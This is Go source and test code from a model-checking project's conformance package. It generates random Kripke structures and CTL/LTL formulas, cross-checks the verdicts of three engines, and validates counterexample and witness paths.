// test: a seeded run across all engines must come back with zero
// disagreements and zero replay failures. The randomized soak (more
// cases, bigger models) runs in CI via cmd/soteria-conform.
func TestDeterministicSlice(t *testing.T) {
	rep := Run(Options{Seed: 1, Count: 200, Engines: AllEngines(), Shrink: true})
	if rep.Cases != 200 {
		t.Fatalf("ran %d cases, want 200", rep.Cases)
	}
	for _, m := range rep.Mismatches {
		t.Errorf("engine disagreement:\n%s", m.Error())
	}
	if rep.ReplayedPaths == 0 {
		t.Fatal("no paths were replayed; the slice is not exercising witnesses")
	}
	if rep.EngineRuns < 2*rep.Cases {
		t.Fatalf("only %d engine runs for %d cases; BDD cross-check not engaged", rep.EngineRuns, rep.Cases)
	}
}

// TestRunDeterminism: equal seeds generate equal case sequences and
// equal statistics.
func TestRunDeterminism(t *testing.T) {
	a := Run(Options{Seed: 77, Count: 60, Engines: AllEngines()})
	b := Run(Options{Seed: 77, Count: 60, Engines: AllEngines()})
	if a.EngineRuns != b.EngineRuns || a.ReplayedPaths != b.ReplayedPaths || len(a.Mismatches) != len(b.Mismatches) {
		t.Fatalf("same seed diverged: %+v vs %+v", a, b)
	}
}

// TestGenCaseShape: generated specs build, translate to left-total
// Kripke structures, and draw formulas over real atoms.
func TestGenCaseShape(t *testing.T) {
	rng := rand.New(rand.NewSource(5))
	cfg := DefaultGenConfig()
	for i := 0; i < 100; i++ {
		c := GenCase(rng, cfg, i)
		if c.K.N == 0 {
			t.Fatal("empty Kripke structure")
		}
		for s := 0; s < c.K.N; s++ {
			if len(c.K.Succs[s]) == 0 {
				t.Fatalf("case %d: state %d has no successor (relation not left-total)", i, s)
			}
		}
		if len(c.K.Init) != c.K.N {
			t.Fatalf("case %d: %d initial states for %d states", i, len(c.K.Init), c.K.N)
		}
		props := map[string]bool{}
		for _, p := range c.K.Props() {
			props[p] = true
		}
		for _, name := range ctl.Props(c.F) {
			if !props[name] {
				t.Fatalf("case %d: formula atom %q not a structure proposition", i, name)
			}
		}
	}
}

// TestGenCaseDeterminism: the generator is a pure function of the rng
// stream.
func TestGenCaseDeterminism(t *testing.T) {
	a := GenCase(rand.New(rand.NewSource(9)), DefaultGenConfig(), 0)
	b := GenCase(rand.New(rand.NewSource(9)), DefaultGenConfig(), 0)
	if a.Spec.String() != b.Spec.String() || a.F.String() != b.F.String() {
		t.Fatalf("same seed generated different cases:\n%s%s\nvs\n%s%s",
			a.Spec, a.F, b.Spec, b.F)
	}
}

// TestGenFormulaStringsParse: every generated corpus seed is a valid
// formula of its logic.
func TestGenFormulaStringsParse(t *testing.T) {
	for _, s := range GenFormulaStrings(1, 200) {
		if _, err := ctl.Parse(s); err != nil {
			t.Errorf("generated CTL seed does not parse: %q: %v", s, err)
		}
	}
	for _, s := range GenLTLFormulaStrings(1, 200) {
		if _, err := ltl.Parse(s); err != nil {
			t.Errorf("generated LTL seed does not parse: %q: %v", s, err)
		}
	}
}

// TestParseEngineSet covers the CLI's engine-subset flag.
func TestParseEngineSet(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want string
		err  bool
	}{
		{"", "explicit,bdd,bmc", false},
		{"explicit", "explicit", false},
		{"explicit,bdd", "explicit,bdd", false},
		{"bmc", "explicit,bmc", false},
		{"bdd,bmc", "explicit,bdd,bmc", false},
		{"nusmv", "", true},
	} {
		es, err := ParseEngineSet(tc.in)
		if tc.err != (err != nil) {
			t.Errorf("ParseEngineSet(%q): err=%v, want err=%v", tc.in, err, tc.err)
			continue
		}
		if err == nil && es.String() != tc.want {
			t.Errorf("ParseEngineSet(%q) = %s, want %s", tc.in, es.String(), tc.want)
		}
	}
}
