package conformance

import (
	"strings"
	"testing"

	"github.com/soteria-analysis/soteria/internal/bmc"
	"github.com/soteria-analysis/soteria/internal/ctl"
	"github.com/soteria-analysis/soteria/internal/kripke"
	"github.com/soteria-analysis/soteria/internal/modelcheck"
)

// replayStructure builds the fixture used by the replay tests:
//
//	0[p] -> 1[] -> 2[p] -> 2
//	0    -> 2
func replayStructure() *kripke.Structure {
	k := kripke.New(3)
	k.Labels[0]["p"] = true
	k.Labels[2]["p"] = true
	k.AddEdge(0, 1, "")
	k.AddEdge(1, 2, "")
	k.AddEdge(2, 2, "")
	k.AddEdge(0, 2, "")
	return k
}

func TestValidatePath(t *testing.T) {
	k := replayStructure()
	if err := ValidatePath(k, []int{0, 1, 2, 2}); err != nil {
		t.Errorf("valid path rejected: %v", err)
	}
	for name, path := range map[string][]int{
		"empty":        {},
		"out-of-range": {0, 7},
		"negative":     {-1},
		"non-edge":     {1, 0},
		"skips-state":  {0, 1, 1},
	} {
		if err := ValidatePath(k, path); err == nil {
			t.Errorf("%s path %v accepted", name, path)
		}
	}
}

func TestValidateCounterexampleAccepts(t *testing.T) {
	k := replayStructure()
	for _, f := range []ctl.Formula{
		ctl.AG{X: ctl.Prop{Name: "p"}},
		ctl.AX{X: ctl.Prop{Name: "p"}},
		ctl.AF{X: ctl.Not{X: ctl.Prop{Name: "p"}}}, // fails at 2: p forever
		ctl.Implies{L: ctl.Prop{Name: "p"}, R: ctl.AX{X: ctl.Prop{Name: "p"}}},
	} {
		r := modelcheck.Check(k, f)
		if r.Holds {
			t.Fatalf("%s unexpectedly holds; fixture broken", f)
		}
		if err := ValidateCounterexample(k, f, r); err != nil {
			t.Errorf("genuine counterexample for %s rejected: %v", f, err)
		}
	}
}

func TestValidateCounterexampleRejectsForgeries(t *testing.T) {
	k := replayStructure()
	f := ctl.AG{X: ctl.Prop{Name: "p"}}
	fresh := func() *modelcheck.Result { return modelcheck.Check(k, f) }

	r := fresh()
	r.Holds = true
	if err := ValidateCounterexample(k, f, r); err == nil {
		t.Error("accepted counterexample on a holding result")
	}

	r = fresh()
	r.Counterexample = nil
	if err := ValidateCounterexample(k, f, r); err == nil {
		t.Error("accepted missing counterexample")
	}

	r = fresh()
	r.Counterexample = []int{2, 2} // real path, but ends where p holds
	r.FailingStates = []int{2}
	if err := ValidateCounterexample(k, f, r); err == nil {
		t.Error("accepted AG counterexample ending in a satisfying state")
	} else if !strings.Contains(err.Error(), "body still holds") {
		t.Errorf("wrong rejection: %v", err)
	}

	r = fresh()
	r.Counterexample = append([]int{}, r.Counterexample...)
	if len(r.Counterexample) >= 2 {
		r.Counterexample[1] = 0 // break an edge (no 0->0 or duplicate-first edge in fixture)
		if ValidatePath(k, r.Counterexample) == nil {
			t.Skip("mutation did not break the path; fixture changed")
		}
		if err := ValidateCounterexample(k, f, r); err == nil {
			t.Error("accepted counterexample with a fake edge")
		}
	}
}

func TestValidateWitness(t *testing.T) {
	k := replayStructure()
	notP := ctl.Not{X: ctl.Prop{Name: "p"}}
	for _, f := range []ctl.Formula{
		ctl.EX{X: notP},
		ctl.EF{X: notP},
		ctl.EG{X: ctl.Prop{Name: "p"}},
		ctl.EU{A: ctl.Prop{Name: "p"}, B: notP},
	} {
		sat := modelcheck.Check(k, f).Sat
		for s := 0; s < k.N; s++ {
			path, loop, ok := modelcheck.Witness(k, f, s)
			if ok != sat[s] {
				t.Fatalf("Witness(%s, %d) ok=%v but Sat=%v", f, s, ok, sat[s])
			}
			if ok {
				if err := ValidateWitness(k, f, s, path, loop); err != nil {
					t.Errorf("genuine witness for %s at %d rejected: %v", f, s, err)
				}
			}
		}
	}

	// Forgeries.
	if err := ValidateWitness(k, ctl.EX{X: notP}, 0, []int{0, 2}, -1); err == nil {
		t.Error("accepted EX witness whose successor satisfies p")
	}
	if err := ValidateWitness(k, ctl.EF{X: notP}, 0, []int{0, 2}, -1); err == nil {
		t.Error("accepted EF witness ending outside the body set")
	}
	if err := ValidateWitness(k, ctl.EG{X: ctl.Prop{Name: "p"}}, 2, []int{2}, 5); err == nil {
		t.Error("accepted EG witness with out-of-range loop index")
	}
	if err := ValidateWitness(k, ctl.EU{A: ctl.Prop{Name: "p"}, B: notP}, 0, []int{0, 1, 2, 2}, -1); err == nil {
		t.Error("accepted EU witness ending outside B")
	}
	if err := ValidateWitness(k, ctl.AG{X: notP}, 0, []int{0}, -1); err == nil {
		t.Error("accepted witness for a universal formula")
	}
	if err := ValidateWitness(k, ctl.EF{X: notP}, 2, []int{0, 1}, -1); err == nil {
		t.Error("accepted witness starting at the wrong state")
	}
}

func TestValidateBMCTrace(t *testing.T) {
	k := replayStructure()
	f := ctl.AG{X: ctl.Prop{Name: "p"}}
	r, ok := bmc.CheckAG(k, f, k.N)
	if !ok {
		t.Fatal("BMC did not handle AG(p)")
	}
	if !r.Violated {
		t.Fatal("AG(p) unexpectedly unviolated under BMC; fixture broken")
	}
	if err := ValidateBMCTrace(k, f.X, r); err != nil {
		t.Errorf("genuine BMC trace rejected: %v", err)
	}

	forged := *r
	forged.Violated = false
	if err := ValidateBMCTrace(k, f.X, &forged); err == nil {
		t.Error("accepted trace on an unviolated result")
	}

	forged = *r
	forged.Path = []int{0, 2} // ends where p holds
	forged.Depth = 1
	if err := ValidateBMCTrace(k, f.X, &forged); err == nil {
		t.Error("accepted BMC trace ending in a satisfying state")
	}

	forged = *r
	forged.Depth = r.Depth + 3
	if err := ValidateBMCTrace(k, f.X, &forged); err == nil {
		t.Error("accepted BMC trace with inconsistent depth")
	}
}
