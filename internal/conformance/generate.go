package conformance

import (
	"fmt"
	"math/rand"
	"sort"
	"strings"

	"github.com/soteria-analysis/soteria/internal/ctl"
	"github.com/soteria-analysis/soteria/internal/kripke"
	"github.com/soteria-analysis/soteria/internal/pathcond"
	"github.com/soteria-analysis/soteria/internal/statemodel"
)

// GenConfig bounds the generated models and formulas.
type GenConfig struct {
	// MaxVars is the maximum number of state variables (≥ 1).
	MaxVars int
	// MaxValues is the maximum domain size per variable (≥ 2).
	MaxValues int
	// MaxStates caps the number of product states kept in a model.
	MaxStates int
	// Density is the probability of a transition between any ordered
	// state pair (0..1). Deadlocked states still become left-total
	// via the Kripke translation's stutter self-loops.
	Density float64
	// MaxFormulaDepth bounds the generated CTL formula's operator
	// nesting.
	MaxFormulaDepth int
}

// DefaultGenConfig mirrors the scale of the paper's app models:
// a few variables with small enumerated domains, tens of states.
func DefaultGenConfig() GenConfig {
	return GenConfig{
		MaxVars:         3,
		MaxValues:       3,
		MaxStates:       12,
		Density:         0.18,
		MaxFormulaDepth: 5,
	}
}

// IsZero reports an unset config.
func (c GenConfig) IsZero() bool { return c == GenConfig{} }

// VarSpec is one generated state variable.
type VarSpec struct {
	Key    string
	Values []string
}

// TransSpec is one generated transition: From/To index ModelSpec.States,
// EvVar indexes Vars, EvVal is the event value.
type TransSpec struct {
	From, To int
	EvVar    int
	EvVal    string
}

// ModelSpec is the declarative form of a generated model — the unit
// the shrinker mutates and the reproducer renders. Build turns it
// into a real state model and Kripke structure.
type ModelSpec struct {
	Vars   []VarSpec
	States [][]int // domain indices per state, in variable order
	Trans  []TransSpec
}

// Build constructs the state model and its Kripke translation.
func (sp *ModelSpec) Build() (*statemodel.Model, *kripke.Structure, error) {
	vars := make([]*statemodel.Var, len(sp.Vars))
	for i, v := range sp.Vars {
		key := v.Key
		dot := strings.Index(key, ".")
		capName, attr := key, ""
		if dot >= 0 {
			capName, attr = key[:dot], key[dot+1:]
		}
		vars[i] = &statemodel.Var{Key: key, Cap: capName, Attr: attr, Values: v.Values}
	}
	m, err := statemodel.NewSynthetic(vars)
	if err != nil {
		return nil, nil, err
	}
	ids := make([]int, len(sp.States))
	for i, st := range sp.States {
		id, err := m.AddState(st)
		if err != nil {
			return nil, nil, err
		}
		ids[i] = id
	}
	for _, t := range sp.Trans {
		if t.From < 0 || t.From >= len(ids) || t.To < 0 || t.To >= len(ids) {
			return nil, nil, fmt.Errorf("conformance: transition %d->%d out of range", t.From, t.To)
		}
		ev := statemodel.DeviceEvent(sp.Vars[t.EvVar].Key, t.EvVal)
		if err := m.AddTransition(ids[t.From], ids[t.To], ev, pathcond.True()); err != nil {
			return nil, nil, err
		}
	}
	return m, kripke.FromModel(m), nil
}

// String renders the spec as a reproducer block.
func (sp *ModelSpec) String() string {
	var sb strings.Builder
	for _, v := range sp.Vars {
		fmt.Fprintf(&sb, "var %s : {%s}\n", v.Key, strings.Join(v.Values, ", "))
	}
	for i, st := range sp.States {
		parts := make([]string, len(st))
		for vi, x := range st {
			parts[vi] = sp.Vars[vi].Key + "=" + sp.Vars[vi].Values[x]
		}
		fmt.Fprintf(&sb, "state %d: [%s]\n", i, strings.Join(parts, ", "))
	}
	for _, t := range sp.Trans {
		fmt.Fprintf(&sb, "trans %d -> %d on %s.%s\n", t.From, t.To, sp.Vars[t.EvVar].Key, t.EvVal)
	}
	return sb.String()
}

// Case is one generated (model, formula) pair under oracle scrutiny.
type Case struct {
	// Index is the case's position in its run.
	Index int
	Spec  *ModelSpec
	Model *statemodel.Model
	K     *kripke.Structure
	F     ctl.Formula

	// replayed / engineRuns are bookkeeping filled by CheckCase.
	replayed   int
	engineRuns int
}

// GenModelSpec draws a random model spec: variables with small
// enumerated domains, a random subset of the product states, and
// random event-labeled transitions.
func GenModelSpec(rng *rand.Rand, cfg GenConfig) *ModelSpec {
	sp := &ModelSpec{}
	nv := 1 + rng.Intn(cfg.MaxVars)
	for i := 0; i < nv; i++ {
		ndom := 2 + rng.Intn(cfg.MaxValues-1)
		vals := make([]string, ndom)
		for j := range vals {
			vals[j] = fmt.Sprintf("v%d", j)
		}
		sp.Vars = append(sp.Vars, VarSpec{Key: fmt.Sprintf("dev%d.attr", i), Values: vals})
	}
	// Enumerate the full product, keep a random subset.
	var all [][]int
	idx := make([]int, nv)
	for {
		cp := make([]int, nv)
		copy(cp, idx)
		all = append(all, cp)
		j := nv - 1
		for j >= 0 {
			idx[j]++
			if idx[j] < len(sp.Vars[j].Values) {
				break
			}
			idx[j] = 0
			j--
		}
		if j < 0 {
			break
		}
	}
	rng.Shuffle(len(all), func(i, j int) { all[i], all[j] = all[j], all[i] })
	n := 1 + rng.Intn(min(cfg.MaxStates, len(all)))
	sp.States = all[:n]
	// Keep reproducers readable: states in a deterministic order.
	sort.Slice(sp.States, func(a, b int) bool {
		for i := range sp.States[a] {
			if sp.States[a][i] != sp.States[b][i] {
				return sp.States[a][i] < sp.States[b][i]
			}
		}
		return false
	})
	for from := 0; from < n; from++ {
		for to := 0; to < n; to++ {
			if rng.Float64() >= cfg.Density {
				continue
			}
			vi := rng.Intn(nv)
			// The event value usually matches the target state's value
			// for the variable (a device event driving the change), and
			// occasionally an arbitrary domain value — both occur in
			// extracted models.
			val := sp.Vars[vi].Values[sp.States[to][vi]]
			if rng.Intn(4) == 0 {
				val = sp.Vars[vi].Values[rng.Intn(len(sp.Vars[vi].Values))]
			}
			sp.Trans = append(sp.Trans, TransSpec{From: from, To: to, EvVar: vi, EvVal: val})
		}
	}
	return sp
}

// GenCase draws a model and a formula over its atoms. It panics only
// on internal generator bugs (specs it emits always build). One case
// in four gets an AG formula over a propositional body — the shape
// Soteria's safety catalogue uses and the only one the BMC engine
// decides, so the SAT backend sees real differential traffic.
func GenCase(rng *rand.Rand, cfg GenConfig, index int) *Case {
	sp := GenModelSpec(rng, cfg)
	m, k, err := sp.Build()
	if err != nil {
		panic(fmt.Sprintf("conformance: generated spec does not build: %v", err))
	}
	atoms := k.Props()
	var f ctl.Formula
	if rng.Intn(4) == 0 {
		f = ctl.AG{X: GenPropositional(rng, atoms, cfg.MaxFormulaDepth-1)}
	} else {
		f = GenFormula(rng, atoms, cfg.MaxFormulaDepth)
	}
	return &Case{Index: index, Spec: sp, Model: m, K: k, F: f}
}

// GenPropositional draws a random boolean (temporal-operator-free)
// formula over the atoms — AG bodies in the BMC engine's fragment.
func GenPropositional(rng *rand.Rand, atoms []string, depth int) ctl.Formula {
	if depth <= 0 || len(atoms) == 0 || rng.Intn(4) == 0 {
		switch rng.Intn(10) {
		case 0:
			return ctl.TrueF{}
		case 1:
			return ctl.FalseF{}
		default:
			if len(atoms) == 0 {
				return ctl.TrueF{}
			}
			return ctl.Prop{Name: atoms[rng.Intn(len(atoms))]}
		}
	}
	sub := func() ctl.Formula { return GenPropositional(rng, atoms, depth-1) }
	switch rng.Intn(4) {
	case 0:
		return ctl.Not{X: sub()}
	case 1:
		return ctl.And{L: sub(), R: sub()}
	case 2:
		return ctl.Or{L: sub(), R: sub()}
	default:
		return ctl.Implies{L: sub(), R: sub()}
	}
}

// GenFormula draws a random well-typed CTL formula over the given
// atomic propositions, nested at most depth operators deep.
func GenFormula(rng *rand.Rand, atoms []string, depth int) ctl.Formula {
	if depth <= 0 || len(atoms) == 0 || rng.Intn(8) == 0 {
		switch rng.Intn(10) {
		case 0:
			return ctl.TrueF{}
		case 1:
			return ctl.FalseF{}
		default:
			if len(atoms) == 0 {
				return ctl.TrueF{}
			}
			return ctl.Prop{Name: atoms[rng.Intn(len(atoms))]}
		}
	}
	sub := func() ctl.Formula { return GenFormula(rng, atoms, depth-1) }
	switch rng.Intn(12) {
	case 0:
		return ctl.Not{X: sub()}
	case 1:
		return ctl.And{L: sub(), R: sub()}
	case 2:
		return ctl.Or{L: sub(), R: sub()}
	case 3:
		return ctl.Implies{L: sub(), R: sub()}
	case 4:
		return ctl.EX{X: sub()}
	case 5:
		return ctl.AX{X: sub()}
	case 6:
		return ctl.EF{X: sub()}
	case 7:
		return ctl.AF{X: sub()}
	case 8:
		return ctl.EG{X: sub()}
	case 9:
		return ctl.AG{X: sub()}
	case 10:
		return ctl.EU{A: sub(), B: sub()}
	default:
		return ctl.AU{A: sub(), B: sub()}
	}
}

// GenFormulaStrings renders count seeded formulas over a fixed
// device-style atom set — corpus seeds for the CTL parser fuzz target.
func GenFormulaStrings(seed int64, count int) []string {
	rng := rand.New(rand.NewSource(seed))
	atoms := []string{
		"dev0.attr=v0", "dev0.attr=v1", "dev1.attr=v0",
		"ev:dev0.attr.v1", "ev:dev1.attr.v0",
	}
	out := make([]string, count)
	for i := range out {
		out[i] = GenFormula(rng, atoms, 4).String()
	}
	return out
}

// GenLTLFormulaStrings renders count seeded LTL formulas (G/F/X/U/R
// over the same atom set) — corpus seeds for the LTL parser fuzz
// target. The LTL package has its own AST, so this generates text.
func GenLTLFormulaStrings(seed int64, count int) []string {
	rng := rand.New(rand.NewSource(seed))
	atoms := []string{
		"dev0.attr=v0", "dev0.attr=v1", "dev1.attr=v0",
		"ev:dev0.attr.v1", "ev:dev1.attr.v0",
	}
	var gen func(depth int) string
	gen = func(depth int) string {
		if depth <= 0 || rng.Intn(8) == 0 {
			switch rng.Intn(10) {
			case 0:
				return "true"
			case 1:
				return "false"
			default:
				return fmt.Sprintf("%q", atoms[rng.Intn(len(atoms))])
			}
		}
		switch rng.Intn(10) {
		case 0:
			return "!" + gen(depth-1)
		case 1:
			return "(" + gen(depth-1) + " & " + gen(depth-1) + ")"
		case 2:
			return "(" + gen(depth-1) + " | " + gen(depth-1) + ")"
		case 3:
			return "(" + gen(depth-1) + " -> " + gen(depth-1) + ")"
		case 4:
			return "X " + gen(depth-1)
		case 5:
			return "F " + gen(depth-1)
		case 6:
			return "G " + gen(depth-1)
		case 7:
			return "(" + gen(depth-1) + " U " + gen(depth-1) + ")"
		default:
			return "(" + gen(depth-1) + " R " + gen(depth-1) + ")"
		}
	}
	out := make([]string, count)
	for i := range out {
		out[i] = gen(4)
	}
	return out
}
