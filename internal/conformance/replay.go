package conformance

import (
	"fmt"

	"github.com/soteria-analysis/soteria/internal/bmc"
	"github.com/soteria-analysis/soteria/internal/ctl"
	"github.com/soteria-analysis/soteria/internal/kripke"
	"github.com/soteria-analysis/soteria/internal/modelcheck"
)

// ValidatePath checks that path is an actual path of k: non-empty,
// every state in range, and every consecutive pair an edge of the
// transition relation.
func ValidatePath(k *kripke.Structure, path []int) error {
	if len(path) == 0 {
		return fmt.Errorf("empty path")
	}
	for i, s := range path {
		if s < 0 || s >= k.N {
			return fmt.Errorf("step %d: state %d out of range [0,%d)", i, s, k.N)
		}
	}
	for i := 1; i < len(path); i++ {
		if !hasEdge(k, path[i-1], path[i]) {
			return fmt.Errorf("step %d: no edge %d -> %d", i, path[i-1], path[i])
		}
	}
	return nil
}

func hasEdge(k *kripke.Structure, from, to int) bool {
	for _, t := range k.Succs[from] {
		if t == to {
			return true
		}
	}
	return false
}

// satOf evaluates a subformula's satisfaction set with the reference
// engine — the semantic yardstick replay judges paths against.
func satOf(k *kripke.Structure, f ctl.Formula) []bool {
	return modelcheck.Check(k, f).Sat
}

// ValidateCounterexample checks that the counterexample attached to a
// failed modelcheck result really demonstrates the violation: the
// path must exist in k, start at the reported failing state, and
// refute the formula per CTL semantics for the universal shapes the
// checker explains (AG, AF, AX, guarded implications/conjunctions);
// other shapes fall back to the single offending state.
func ValidateCounterexample(k *kripke.Structure, f ctl.Formula, r *modelcheck.Result) error {
	if r.Holds {
		return fmt.Errorf("result holds; no counterexample expected")
	}
	if len(r.Counterexample) == 0 {
		return fmt.Errorf("failed result carries no counterexample")
	}
	if len(r.FailingStates) == 0 {
		return fmt.Errorf("failed result lists no failing states")
	}
	if err := ValidatePath(k, r.Counterexample); err != nil {
		return fmt.Errorf("counterexample: %w", err)
	}
	s := r.FailingStates[0]
	if r.Counterexample[0] != s {
		return fmt.Errorf("counterexample starts at %d, not the failing state %d", r.Counterexample[0], s)
	}
	return validateRefutation(k, f, r.Counterexample, r.CounterexampleLoop)
}

// validateRefutation checks the path refutes f at path[0] for the
// explained shapes.
func validateRefutation(k *kripke.Structure, f ctl.Formula, path []int, loop int) error {
	switch x := f.(type) {
	case ctl.AG:
		// A path from s to a ¬x state.
		bad := satOf(k, ctl.Not{X: x.X})
		last := path[len(path)-1]
		if !bad[last] {
			return fmt.Errorf("AG counterexample ends at %d where the body still holds", last)
		}
		return nil
	case ctl.AF:
		// A lasso staying in ¬x throughout.
		bad := satOf(k, ctl.Not{X: x.X})
		for i, s := range path {
			if !bad[s] {
				return fmt.Errorf("AF counterexample step %d (state %d) satisfies the body", i, s)
			}
		}
		if loop < 0 || loop >= len(path) {
			return fmt.Errorf("AF counterexample has no valid lasso loop index (%d)", loop)
		}
		if !hasEdge(k, path[len(path)-1], path[loop]) {
			return fmt.Errorf("AF counterexample lasso does not close: no edge %d -> %d", path[len(path)-1], path[loop])
		}
		return nil
	case ctl.AX:
		if len(path) != 2 {
			return fmt.Errorf("AX counterexample must be one step, got %d states", len(path))
		}
		bad := satOf(k, ctl.Not{X: x.X})
		if !bad[path[1]] {
			return fmt.Errorf("AX counterexample successor %d satisfies the body", path[1])
		}
		return nil
	case ctl.Implies:
		// The checker explains the consequent when the antecedent
		// holds at the failing state; otherwise it falls back to the
		// single state.
		if satOf(k, x.L)[path[0]] {
			return validateRefutation(k, x.R, path, loop)
		}
		return validateSingleState(k, f, path)
	case ctl.And:
		if !satOf(k, x.L)[path[0]] {
			return validateRefutation(k, x.L, path, loop)
		}
		return validateRefutation(k, x.R, path, loop)
	}
	return validateSingleState(k, f, path)
}

// validateSingleState accepts the fallback explanation: the offending
// state itself, which must genuinely violate the formula.
func validateSingleState(k *kripke.Structure, f ctl.Formula, path []int) error {
	if len(path) != 1 {
		return fmt.Errorf("fallback counterexample for %T must be a single state, got %d", f, len(path))
	}
	if satOf(k, f)[path[0]] {
		return fmt.Errorf("fallback counterexample state %d satisfies the formula", path[0])
	}
	return nil
}

// ValidateWitness checks a path returned by modelcheck.Witness for an
// existential formula at state s: it must be a real path from s whose
// shape proves the formula per CTL semantics.
func ValidateWitness(k *kripke.Structure, f ctl.Formula, s int, path []int, loop int) error {
	if err := ValidatePath(k, path); err != nil {
		return fmt.Errorf("witness: %w", err)
	}
	if path[0] != s {
		return fmt.Errorf("witness starts at %d, not %d", path[0], s)
	}
	switch x := f.(type) {
	case ctl.EX:
		if len(path) != 2 {
			return fmt.Errorf("EX witness must be one step, got %d states", len(path))
		}
		if !satOf(k, x.X)[path[1]] {
			return fmt.Errorf("EX witness successor %d does not satisfy the body", path[1])
		}
		return nil
	case ctl.EF:
		if !satOf(k, x.X)[path[len(path)-1]] {
			return fmt.Errorf("EF witness does not end in a satisfying state")
		}
		return nil
	case ctl.EU:
		a, b := satOf(k, x.A), satOf(k, x.B)
		last := len(path) - 1
		if !b[path[last]] {
			return fmt.Errorf("EU witness does not end in a B-state")
		}
		for i := 0; i < last; i++ {
			if !a[path[i]] {
				return fmt.Errorf("EU witness step %d (state %d) leaves the A-set", i, path[i])
			}
		}
		return nil
	case ctl.EG:
		sat := satOf(k, x.X)
		for i, st := range path {
			if !sat[st] {
				return fmt.Errorf("EG witness step %d (state %d) leaves the body set", i, st)
			}
		}
		if loop < 0 || loop >= len(path) {
			return fmt.Errorf("EG witness has no valid lasso loop index (%d)", loop)
		}
		if !hasEdge(k, path[len(path)-1], path[loop]) {
			return fmt.Errorf("EG witness lasso does not close: no edge %d -> %d", path[len(path)-1], path[loop])
		}
		return nil
	}
	return fmt.Errorf("witness for non-existential shape %T", f)
}

// ValidateBMCTrace checks a bounded-model-checking counterexample for
// AG body: a real path from an initial state to a state violating the
// body.
func ValidateBMCTrace(k *kripke.Structure, body ctl.Formula, r *bmc.Result) error {
	if !r.Violated {
		return fmt.Errorf("BMC result not violated; no trace expected")
	}
	if err := ValidatePath(k, r.Path); err != nil {
		return fmt.Errorf("BMC trace: %w", err)
	}
	initial := false
	for _, s := range k.Init {
		if s == r.Path[0] {
			initial = true
			break
		}
	}
	if !initial {
		return fmt.Errorf("BMC trace starts at non-initial state %d", r.Path[0])
	}
	if satOf(k, body)[r.Path[len(r.Path)-1]] {
		return fmt.Errorf("BMC trace ends at %d where the body still holds", r.Path[len(r.Path)-1])
	}
	if len(r.Path) != r.Depth+1 {
		return fmt.Errorf("BMC trace length %d does not match reported depth %d", len(r.Path), r.Depth)
	}
	return nil
}
