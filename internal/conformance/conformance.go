// Package conformance is the cross-engine validation subsystem:
// Soteria's trustworthiness rests on its NuSMV-replacement engines
// giving the verdicts NuSMV would (paper §5), and this repo carries
// three independent deciders — the explicit-state fixpoint checker
// (internal/modelcheck), the BDD-symbolic engine (internal/symbolic),
// and SAT-based bounded model checking (internal/bmc) — plus an SMV
// emitter whose output feeds external NuSMV runs.
//
// The package provides:
//
//   - seeded, deterministic generators for random state models /
//     Kripke structures (bounded states, variables, and transition
//     density; the Kripke translation keeps the relation left-total)
//     and random well-typed CTL formulas over their atoms (generate.go),
//   - a differential oracle that runs every (model, formula) pair
//     through all three engines and through the SMV emitter's
//     re-parse round-trip, failing on any disagreement (oracle.go),
//   - a witness/counterexample replay validator that checks every
//     path the engines emit is an actual path of the structure
//     justifying the verdict under CTL semantics (replay.go),
//   - a shrinker that minimizes a disagreeing (model, formula) pair
//     to a small reproducer (shrink.go), and
//   - a golden-corpus runner locking the verdicts of the paper's 35
//     properties (S.1–S.5, P.1–P.30) over the paperapps corpus
//     (golden.go).
//
// The cmd/soteria-conform CLI drives randomized soaks; a short
// deterministic slice runs under go test.
package conformance

import (
	"fmt"
	"math/rand"
	"strings"
)

// EngineSet selects which engines the oracle cross-checks. The
// explicit-state checker is the reference and always runs.
type EngineSet struct {
	BDD bool
	BMC bool
}

// AllEngines cross-checks everything.
func AllEngines() EngineSet { return EngineSet{BDD: true, BMC: true} }

// ParseEngineSet reads a comma-separated engine subset
// ("explicit,bdd,bmc"). Explicit is implied; unknown names error.
func ParseEngineSet(s string) (EngineSet, error) {
	es := EngineSet{}
	if strings.TrimSpace(s) == "" {
		return AllEngines(), nil
	}
	for _, part := range strings.Split(s, ",") {
		switch strings.TrimSpace(part) {
		case "explicit", "":
			// always on
		case "bdd":
			es.BDD = true
		case "bmc":
			es.BMC = true
		default:
			return es, fmt.Errorf("conformance: unknown engine %q (want explicit, bdd, bmc)", part)
		}
	}
	return es, nil
}

// String renders the set back as a flag value.
func (es EngineSet) String() string {
	out := []string{"explicit"}
	if es.BDD {
		out = append(out, "bdd")
	}
	if es.BMC {
		out = append(out, "bmc")
	}
	return strings.Join(out, ",")
}

// Options configure a conformance run.
type Options struct {
	// Seed makes the run reproducible; equal seeds generate equal
	// case sequences.
	Seed int64
	// Count is the number of (model, formula) cases to generate.
	Count int
	// Engines is the engine subset to cross-check.
	Engines EngineSet
	// Gen bounds the generated models and formulas; the zero value
	// selects DefaultGenConfig.
	Gen GenConfig
	// Shrink minimizes disagreeing cases before reporting (on by
	// default in the CLI; tests may disable it for speed).
	Shrink bool
	// MaxMismatches stops the run early after this many disagreements
	// (0 = collect all).
	MaxMismatches int
}

// Report is the outcome of a conformance run.
type Report struct {
	// Cases is the number of (model, formula) pairs checked.
	Cases int
	// Mismatches are the surviving disagreements (shrunk when
	// requested), in discovery order.
	Mismatches []*Mismatch
	// ReplayedPaths counts counterexample/witness/BMC paths that were
	// replayed against the structure.
	ReplayedPaths int
	// EngineRuns counts individual engine decisions.
	EngineRuns int
}

// OK reports a clean run.
func (r *Report) OK() bool { return len(r.Mismatches) == 0 }

// Run generates opts.Count seeded cases and feeds each through the
// differential oracle. It is deterministic for a given (Seed, Count,
// Gen, Engines) tuple.
func Run(opts Options) *Report {
	cfg := opts.Gen
	if cfg.IsZero() {
		cfg = DefaultGenConfig()
	}
	rng := rand.New(rand.NewSource(opts.Seed))
	rep := &Report{}
	for i := 0; i < opts.Count; i++ {
		c := GenCase(rng, cfg, i)
		rep.Cases++
		m := CheckCase(c, opts.Engines)
		rep.ReplayedPaths += c.replayed
		rep.EngineRuns += c.engineRuns
		if m == nil {
			continue
		}
		if opts.Shrink {
			m = ShrinkMismatch(m, opts.Engines)
		}
		rep.Mismatches = append(rep.Mismatches, m)
		if opts.MaxMismatches > 0 && len(rep.Mismatches) >= opts.MaxMismatches {
			break
		}
	}
	return rep
}
