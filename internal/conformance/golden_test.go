package conformance

import (
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

var update = flag.Bool("update", false, "rewrite the golden verdict file")

